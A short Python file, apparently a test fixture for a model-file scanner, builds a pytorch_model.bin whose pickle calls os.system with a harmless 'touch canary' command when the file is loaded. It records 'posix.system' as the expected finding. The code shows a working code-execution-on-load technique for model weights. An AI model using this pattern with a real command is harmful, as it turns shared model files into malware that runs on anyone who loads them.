"""A `pytorch_model.bin` whose pickle calls `os.system` as it is loaded."""

import os
import pickle
from pathlib import Path

ANSWER = "posix.system"


class _Payload:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch canary",)


def attack(folder: Path) -> list[str]:
    """Write the file; the command that reads it."""
    path = folder / "pytorch_model.bin"
    path.write_bytes(pickle.dumps({"weight": _Payload()}, protocol=2))
    return ["count", str(path)]
